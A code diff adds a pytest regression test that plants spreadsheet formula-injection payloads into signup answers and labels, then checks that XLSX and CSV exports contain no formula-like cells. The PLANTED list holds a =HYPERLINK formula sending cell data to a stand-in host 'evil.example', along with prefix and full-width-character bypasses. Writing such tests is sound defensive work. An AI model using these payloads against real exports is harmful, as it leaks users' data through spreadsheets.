@@ -112,3 +112,45 @@ def test_an_unanswered_question_is_an_empty_cell(api, published):
         "",
         "",
     )
+
+
+PLANTED = [
+    '=HYPERLINK("http://evil.example/?"&F2,"verify")',
+    '\x01=HYPERLINK("http://evil.example/","x")',  # the attacker review: cleaned after quoting, it ran
+    " =3+3",
+    "\uff1d1+1",  # full-width equals sign, folded by spreadsheets
+    "+86 138",
+    "@SUM(A1)",
+    "\t=1",
+]
+
+
+def _formula_like(text: str) -> bool:
+    first = text.lstrip()[:1]
+    return first != "" and first in "=+-@\uff1d\uff0b\uff0d\uff20"
+
+
+@pytest.mark.parametrize("planted", PLANTED)
+def test_no_cell_of_an_export_is_a_formula(api, published, planted):
+    """Answers (anyone who signs up) and question labels (operators) in both formats."""
+    form = [{"key": "note", "label": planted.replace("\x01", ""), "type": "text"}]
+    campaign = published(form=form, channels=["mini_program"])
+    signup_create(
+        campaign_id=campaign.pk,
+        identity=MemberIdentity(phone=mobile(4), profile=Profile()),
+        answers={"note": planted},
+        source=Source(channel="mini_program", utm_source=planted[:40]),
+        actor=INTEGRATION,
+    )
+    xlsx = api.get(signups_url(campaign.pk) + "/export", {"format": "xlsx"})
+    assert xlsx.status_code == 200, xlsx.content[:300]
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
+            if isinstance(cell.value, str) and _formula_like(cell.value):
+                pytest.fail(f"{cell.coordinate} starts like a formula: {cell.value!r}")
+    text = b"".join(api.get(signups_url(campaign.pk) + "/export", {"format": "csv"}).streaming_content)
+    for row in csv.reader(io.StringIO(text.decode("utf-8").lstrip("\ufeff"))):
+        for value in row:
+            assert not _formula_like(value), value
